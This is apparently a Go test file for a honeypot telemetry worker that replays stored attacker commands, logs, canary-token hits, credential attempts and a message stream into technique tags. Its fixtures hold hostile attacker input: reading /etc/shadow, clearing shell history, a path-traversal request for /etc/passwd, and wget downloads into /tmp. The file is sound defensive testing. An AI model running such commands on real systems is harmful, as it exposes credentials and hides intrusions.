package main

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"ttp-worker/bus"
	"ttp-worker/internal/embedded/natstest"
	"ttp-worker/internal/testdb"
)

const (
	attackerA = "a1a1a1a1-0000-4000-8000-000000000001"
	attackerB = "b2b2b2b2-0000-4000-8000-000000000002"
)

// addAttacker gives a DECNET database an attacker with stored commands.
func addAttacker(t *testing.T, dsn, uuid, ip, lastSeen, commands string) {
	t.Helper()
	testdb.Exec(t, dsn, fmt.Sprintf(`INSERT INTO attackers (uuid, ip, first_seen, last_seen, updated_at, event_count, service_count, decky_count,
		bounty_count, credential_count, rotation_count, ipv6_leak_count, services, deckies, fingerprints, commands, is_traversal)
		VALUES ('%s', '%s', '2026-05-01 00:00:00', '%s', '2026-05-03 00:00:00', 1, 1, 1, 0, 0, 0, 0, '[]', '[]', '[]', '%s', 0)`, uuid, ip, lastSeen,
		strings.ReplaceAll(commands, `\`, `\\`)))
}

func replayed(t *testing.T, want int, args ...string) string {
	t.Helper()
	out, code := program(t, append([]string{"replay"}, args...)...)
	if code != want {
		t.Fatalf("exit %d, want %d: %s", code, want, out)
	}
	return out
}

func TestReplay_storedCommandsHaveTheIdsOfLiveOnes(t *testing.T) {
	dsn := testdb.DECNET(t)
	addAttacker(t, dsn, attackerA, "198.51.100.7", "2026-05-02 06:30:00", `[
		{"service":"bash","decky":"SRV","command":"cat /etc/shadow","timestamp":"2026-05-02T06:22:48.654321+00:00"},
		{"service":"bash","decky":"SRV","command":"history -c","timestamp":"2026-05-02T08:22:49.1+02:00"}]`)
	h := startLive(t, dsn, zap.NewNop())
	h.publish(t, "attacker.session.ended", `{"v":1,"payload":{"session_id":"S","attacker_uuid":null,"attacker_ip":"198.51.100.7","decky_id":"omega","service":"ssh",
		"ended_at":"2026-05-02T06:23:30","commands":[
		{"id":"S#0","command_text":"cat /etc/shadow","ts":"2026-05-02T06:22:48","decky":"SRV","service":"bash"},
		{"id":"S#1","command_text":"history -c","ts":"2026-05-02T08:22:49","decky":"SRV","service":"bash"}]}}`)
	until(t, "the session is tagged", func() bool { return h.count("ttp.tagged") == 1 })
	h.stop()
	out := replayed(t, 0, "--source", "command", "--db", dsn)
	if !strings.Contains(out, "source=command rows=1 events=2 ") || !strings.Contains(out, " inserted=0 ") || strings.Contains(out, " tags=0 ") {
		t.Error(out)
	}
}

func TestReplay_storedCommandsOfEveryShape(t *testing.T) {
	dsn := testdb.DECNET(t)
	addAttacker(t, dsn, attackerA, "198.51.100.7", "2026-05-02 06:30:00", `[
		{"command":"cat /etc/shadow","decky":"a","timestamp":"2026-05-02T06:22:48+00:00"},
		{"command_text":"cat /etc/shadow","decky":"b","ts":"2026-05-02T06:22:48"},
		{"text":"cat /etc/shadow","decky":"c"},
		{"cmd":"cat /etc/shadow","decky":"d","id":"own"},
		"cat /etc/shadow",
		{"command":"cat /etc/shadow","decky":"old","timestamp":"2026-04-02T06:22:48+00:00"},
		{"command":""}, 7, null, {"x":1}]`)
	addAttacker(t, dsn, attackerB, "198.51.100.8", "2026-05-02 06:30:00", `[{"command":"cat /etc`)
	addAttacker(t, dsn, "c3", "198.51.100.9", "2026-05-02 06:30:00", `[]`)
	addAttacker(t, dsn, "d4", "198.51.100.10", "2026-01-02 06:30:00", `[{"command":"cat /etc/shadow"}]`)
	out := replayed(t, exitMalformed, "--source", "command", "--since", "2026-05-01", "--db", dsn)
	if !strings.Contains(out, "source=command rows=2 events=5 ") || !strings.Contains(out, " 4 malformed") {
		t.Error(out)
	}
	ids := query(t, dsn, "SELECT DISTINCT source_id FROM ttp_tag WHERE LENGTH(source_id) <> 32 ORDER BY source_id")
	want := "source_id=" + attackerA + "#cmd2,true  source_id=" + attackerA + "#cmd4,true  source_id=own,true "
	if got := strings.Join(ids, " "); got != want {
		t.Errorf("ids %s, want %s", got, want)
	}
	if out := replayed(t, exitMalformed, "--source", "command", "--since", "2026-05-01", "--db", dsn); !strings.Contains(out, " inserted=0 ") {
		t.Errorf("a second replay: %s", out)
	}
}

func TestReplay_canaryTriggers(t *testing.T) {
	dsn := testdb.DECNET(t)
	addAttacker(t, dsn, attackerA, "198.51.100.7", "2026-05-02 06:30:00", `[]`)
	testdb.Exec(t, dsn, `INSERT INTO canary_tokens (uuid, kind, decky_name, placement_path, callback_token, secret_seed, placed_at, trigger_count, created_by, state)
		VALUES ('t1', 'aws_keys', 'decky-1', '/root/.aws/credentials', 'c', 's', '2026-05-01 00:00:00', 1, 'me', 'planted')`)
	chunks := "eyJuYXYiOnsid2QiOnRydWV9fQ==" // {"nav":{"wd":true}}
	for uuid, row := range map[string][3]string{
		"T1": {"198.51.100.7", "2026-05-02 06:22:48", `{"user-agent":"x","_fp":{"nav":{"wd":true}}}`},
		"T2": {"198.51.100.7", "2026-05-02 06:22:49", `{"_fp_sid":"s","_fp_idx":"0","_fp_total":"2","_fp_chunk":"` + chunks[:10] + `"}`},
		"T3": {"198.51.100.7", "2026-05-02 06:22:50", `{"_fp_sid":"s","_fp_idx":"1","_fp_total":"2","_fp_chunk":"` + chunks[10:] + `"}`},
		"T4": {"203.0.113.9", "2026-05-02 06:22:51", `{}`},
		"T5": {"198.51.100.7", "2025-05-02 06:22:51", `{}`},
		"T6": {"198.51.100.7", "2026-05-02 06:22:51", `no JSON`},
	} {
		testdb.Exec(t, dsn, fmt.Sprintf(`INSERT INTO canary_triggers (uuid, token_uuid, occurred_at, src_ip, user_agent, request_path, raw_headers)
			VALUES ('%s', 't1', '%s', '%s', 'curl', '/c/x', '%s')`, uuid, row[1], row[0], row[2]))
	}
	out := replayed(t, 0, "--source", "canary", "--since", "2026-05-01", "--db", dsn)
	if !strings.Contains(out, "source=canary rows=5 events=8 ") || !strings.Contains(out, "of attackers without a row") {
		t.Error(out)
	}
	got := query(t, dsn, "SELECT DISTINCT source_kind, source_id, decky_id, attacker_uuid FROM ttp_tag ORDER BY source_kind, source_id")
	var want []string
	for _, e := range [][2]string{{"canary", "T1"}, {"canary", "T2"}, {"canary", "T3"}, {"canary", "T6"}, {"canary_fingerprint", "T1"}, {"canary_fingerprint", "T3"}} {
		want = append(want, fmt.Sprintf("source_kind=%s,true source_id=%s,true decky_id=decky-1,true attacker_uuid=%s,true ", e[0], e[1], attackerA))
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("tags of\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	h := startLive(t, dsn, zap.NewNop())
	h.publish(t, "canary.t1.triggered", `{"v":1,"payload":{"token_id":"t1","trigger_id":"T1","decky_name":"decky-1","src_ip":"198.51.100.7","user_agent":"curl","request_path":"/c/x"}}`)
	until(t, "the hit is settled", func() bool {
		settled, ok, err := h.bus.Settled(t.Context(), "TELEMETRY")
		return err == nil && ok && settled == 1
	})
	if n := h.count("ttp.tagged"); n != 0 {
		t.Errorf("the live path tagged it under another id: %d announcements", n)
	}
}

func TestReplay_logs(t *testing.T) {
	dsn := testdb.DECNET(t)
	addAttacker(t, dsn, attackerA, "198.51.100.7", "2026-05-02 06:30:00", `[{"service":"bash","decky":"SRV","command":"cat /etc/shadow","timestamp":"2026-05-02T06:22:48.654321+00:00"}]`)
	insert := func(second, kind, service, raw, fields string) {
		t.Helper()
		testdb.Exec(t, dsn, fmt.Sprintf(`INSERT INTO logs (timestamp, decky, service, event_type, attacker_ip, raw_line, fields)
			VALUES ('2026-05-02 06:22:%s', 'SRV', '%s', '%s', '198.51.100.7', '%s', '%s')`, second, service, kind, raw, strings.ReplaceAll(fields, `\`, `\\`)))
	}
	// MySQL has rounded the column up; the line knows better.
	insert("49", "command", "bash", "<14>1 2026-05-02T06:22:48.654321+00:00 SRV bash - command - x", `{"command":"cat /etc/shadow"}`)
	insert("50", "shell_input", "telnet", "x", `{"line":"history -c"}`)
	insert("51", "request", "http", "x", `{"method":"GET","path":"/?f=../../../../etc/passwd","headers":"{\"User-Agent\":\"curl\"}"}`)
	insert("52", "connect", "ssh", "x", `{}`)
	insert("53", "command", "bash", "x", `{"command":`)
	insert("54", "command", "bash", "x", `{}`)
	replayed(t, 0, "--source", "command", "--db", dsn)
	before := len(tags(t, dsn))
	out := replayed(t, exitMalformed, "--source", "logs", "--db", dsn)
	if !strings.Contains(out, "source=logs rows=5 events=3 ") || !strings.Contains(out, ", 1 malformed, 1 no events") {
		t.Error(out)
	}
	kinds := query(t, dsn, "SELECT DISTINCT source_kind FROM ttp_tag ORDER BY source_kind")
	if len(kinds) != 2 || len(tags(t, dsn)) <= before {
		t.Errorf("kinds %q", kinds)
	}
	if n := len(query(t, dsn, "SELECT DISTINCT source_id FROM ttp_tag WHERE source_kind = 'command'")); n != 2 {
		t.Errorf("%d commands; the one that is in both tables must be one", n)
	}
	if out := replayed(t, exitMalformed, "--source", "logs,command", "--db", dsn); strings.Count(out, " inserted=0 ") != 2 {
		t.Errorf("a second replay: %s", out)
	}
}

func TestReplay_credentials(t *testing.T) {
	dsn := testdb.DECNET(t)
	addAttacker(t, dsn, attackerA, "198.51.100.7", "2026-05-02 06:30:00", `[]`)
	for i := range 6 {
		outcome := "failure"
		if i == 5 {
			outcome = "success"
		}
		testdb.Exec(t, dsn, fmt.Sprintf(`INSERT INTO credentials (attacker_ip, decky_name, service, principal, principal_key, secret_kind, secret_sha256, secret_printable, outcome, fields, first_seen, last_seen, attempt_count)
			VALUES ('198.51.100.7', 'd', 'ssh', 'root', 'root', 'plaintext', 'h%d', 'pw%d', '%s', '{}', '2026-05-02 06:22:1%d', '2026-05-03 00:00:00', 2)`, i, i, outcome, i))
	}
	out := replayed(t, 0, "--source", "credentials", "--db", dsn)
	if !strings.Contains(out, "source=credentials rows=6 events=6 ") {
		t.Error(out)
	}
	rules := strings.Join(query(t, dsn, "SELECT rule_id, COUNT(*) AS n FROM ttp_tag WHERE rule_id IN ('R0001', 'R0002', 'R0005') GROUP BY rule_id ORDER BY rule_id"), "")
	if want := "rule_id=R0001,true n=6,true rule_id=R0002,true n=6,true rule_id=R0005,true n=1,true "; rules != want {
		t.Errorf("rules %s, want %s", rules, want)
	}
	for _, row := range tags(t, dsn) {
		if strings.Contains(row, "pw") {
			t.Errorf("a password is in the table: %s", row)
		}
	}
	testdb.Exec(t, dsn, `UPDATE credentials SET last_seen = '2026-05-04 00:00:00', attempt_count = 9`)
	if out := replayed(t, 0, "--source", "credentials", "--db", dsn); !strings.Contains(out, " inserted=0 ") {
		t.Errorf("more of the same attempts: %s", out)
	}
}

func TestReplay_resumesInTheDatabase(t *testing.T) {
	whole, killed := testdb.DECNET(t), testdb.DECNET(t)
	for i := range 40 {
		var list []string
		for j := range 50 {
			list = append(list, fmt.Sprintf(`{"command":"wget http://192.0.2.1/%d -O /tmp/x%d","decky":"d","timestamp":"2026-05-02T06:%02d:%02d+00:00"}`, i, j, i, j))
		}
		blob := "[" + strings.Join(list, ",") + "]"
		if i%10 == 3 {
			blob = blob[:100]
		}
		for _, dsn := range []string{whole, killed} {
			addAttacker(t, dsn, fmt.Sprintf("%08x-0000-4000-8000-000000000000", i*99991), fmt.Sprintf("198.51.100.%d", i), "2026-05-02 06:30:00", blob)
		}
	}
	out := replayed(t, exitMalformed, "--source", "command", "--db", whole)
	args := []string{"--source", "command", "--db", killed, "--batch-size", "20", "--resume"}
	for range 3 {
		cmd := spawn(t, append(append([]string{"replay"}, args...), "--rate", "500")...)
		rows := len(tags(t, killed))
		until(t, "some rows", func() bool { return len(tags(t, killed)) > rows || cmd.ProcessState != nil })
		_ = cmd.Process.Kill() // as is the point
		_ = cmd.Wait()
	}
	resumed := replayed(t, exitMalformed, args...)
	if summary(out) != summary(resumed) {
		t.Errorf("whole:   %s\nresumed: %s", summary(out), summary(resumed))
	}
	if a, b := tags(t, whole), tags(t, killed); strings.Join(a, "\n") != strings.Join(b, "\n") {
		t.Errorf("%d rows and %d rows differ", len(a), len(b))
	}
	if out := replayed(t, exitMalformed, args...); summary(out) != summary(resumed) {
		t.Errorf("resumed at the end: %s", out)
	}
}

func TestReplay_streamLeavesTheLiveConsumerWhatItHasNotSettled(t *testing.T) {
	server := natstest.Start(t)
	b := connected(t, server)
	if err := b.Provision(t.Context(), bus.Storage{}); err != nil {
		t.Fatal(err)
	}
	if err := b.EnsureConsumer(t.Context()); err != nil {
		t.Fatal(err)
	}
	publish := func(n int) {
		t.Helper()
		data := fmt.Sprintf(`{"v":1,"payload":{"attacker_ip":"198.51.100.7","command_text":"cat /etc/shadow","ts":"2026-05-02T06:22:%02d"}}`, n)
		if err := b.Publish(t.Context(), bus.Message{Subject: "attacker.command", Data: []byte(data)}); err != nil {
			t.Fatal(err)
		}
	}
	for n := range 8 {
		publish(n)
	}
	source := b.NewSource(bus.Batch{Size: 5})
	defer func() { _ = source.Close() }() // the server goes, too
	deliveries, err := source.Fetch(t.Context())
	if err != nil || len(deliveries) != 5 {
		t.Fatalf("%d deliveries, %v", len(deliveries), err)
	}
	for _, i := range []int{0, 1, 2, 4} { // the fourth is in hand
		if err := deliveries[i].AckSync(t.Context()); err != nil {
			t.Fatal(err)
		}
	}
	dsn := testdb.SQLite(t)
	args := []string{"--from-stream", "TELEMETRY", "--nats", server.URL(), "--db", dsn, "--unknown-attacker", "create"}
	if out := replayed(t, 0, args...); !strings.Contains(out, "source=stream rows=3 events=3 ") {
		t.Error(out)
	}
	if err := deliveries[3].AckSync(t.Context()); err != nil {
		t.Fatal(err)
	}
	if out := replayed(t, 0, append(args, "--resume")...); !strings.Contains(out, "source=stream rows=5 events=5 ") {
		t.Error(out)
	}
	if out := replayed(t, 0, append(args, "--since", "2199-01-01")...); !strings.Contains(out, "source=stream rows=0 ") {
		t.Error(out)
	}
	// Another name may be a slip; the worker's announcements would be lost.
	replayed(t, exitFailed, append(args, "--consumer", "nobody")...)
	if out := replayed(t, 0, append(args, "--consumer", "nobody", "--no-live-worker")...); !strings.Contains(out, "source=stream rows=8 events=8 ") {
		t.Error(out)
	}
	settled, ok, err := b.Settled(t.Context(), "TELEMETRY")
	if err != nil || !ok || settled != 5 {
		t.Errorf("the live consumer was touched: %d, %v, %v", settled, ok, err)
	}
	if _, code := program(t, "replay", "--from-stream", "NONE", "--nats", server.URL(), "--db", dsn); code != exitFailed {
		t.Errorf("a stream that does not exist: exit %d", code)
	}
}

func TestReplay_streamWithoutALiveWorkerIsHistory(t *testing.T) {
	server := natstest.Start(t)
	b := connected(t, server)
	if err := b.Provision(t.Context(), bus.Storage{}); err != nil {
		t.Fatal(err)
	}
	data := []byte(`{"v":1,"payload":{"attacker_ip":"198.51.100.7","command_text":"cat /etc/shadow","ts":"2026-05-02T06:22:48"}}`)
	if err := b.Publish(t.Context(), bus.Message{Subject: "attacker.command", Data: data}); err != nil {
		t.Fatal(err)
	}
	out := replayed(t, 0, "--from-stream", "TELEMETRY", "--nats", server.URL(), "--db", testdb.SQLite(t), "--unknown-attacker", "create")
	if !strings.Contains(out, "source=stream rows=1 events=1 ") {
		t.Error(out)
	}
}

func connected(t *testing.T, server *natstest.Server) *bus.Bus {
	t.Helper()
	b, err := bus.Connect(bus.Options{Connection: bus.Connection{URL: server.URL()}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Close)
	until(t, "connected", b.Connected)
	return b
}

func TestReplay_warnsWhereTheLiveWorkerMayLagUnseen(t *testing.T) {
	server := natstest.Start(t)
	for name, c := range map[string]struct {
		options replayOptions
		bus     *bus.Bus
		warned  bool
	}{
		"its database":             {replayOptions{sources: []string{"command"}}, nil, true},
		"its database and its bus": {replayOptions{sources: []string{"command"}}, connected(t, server), false},
		"nothing is stored":        {replayOptions{sources: []string{"command"}, dryRun: true}, nil, false},
		"files":                    {replayOptions{from: []string{"cowrie.json"}}, nil, false},
	} {
		core, logs := observer.New(zap.WarnLevel)
		if looks := c.options.busy(t.Context(), c.bus, zap.New(core)) != nil; looks != (c.bus != nil) {
			t.Errorf("%s: looks at the live worker: %v", name, looks)
		}
		if warned := logs.FilterFieldKey("hint").Len() == 1; warned != c.warned {
			t.Errorf("%s: warned %v, want %v: %v", name, warned, c.warned, logs.All())
		}
	}
}

func TestReplay_givesWayToTheLiveWorker(t *testing.T) {
	server := natstest.Start(t)
	b := connected(t, server)
	if err := b.Provision(t.Context(), bus.Storage{}); err != nil {
		t.Fatal(err)
	}
	if err := b.EnsureConsumer(t.Context()); err != nil {
		t.Fatal(err)
	}
	data := []byte(`{"v":1,"payload":{"attacker_ip":"198.51.100.7","command_text":"id"}}`)
	_, err := b.PublishAll(t.Context(), func(yield func(bus.Message) bool) {
		for range manyPending + 1 {
			if !yield(bus.Message{Subject: "attacker.command", Data: data}) {
				return
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	name, dsn := save(t, cowrieLog(50)), testdb.SQLite(t)
	cmd := spawn(t, "replay", "--from", name, "--db", dsn, "--nats", server.URL())
	ended := make(chan error, 1)
	go func() { ended <- cmd.Wait() }()
	select {
	case err := <-ended:
		t.Fatalf("it did not wait: %v", err)
	case <-time.After(1500 * time.Millisecond):
	}
	source := b.NewSource(bus.Batch{})
	for n := 0; n < manyPending+1; {
		deliveries, err := source.Fetch(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range deliveries {
			if err := d.AckSync(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
		n += len(deliveries)
	}
	if err := source.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-ended; err != nil {
		t.Errorf("it did not go on: %v", err)
	}
}
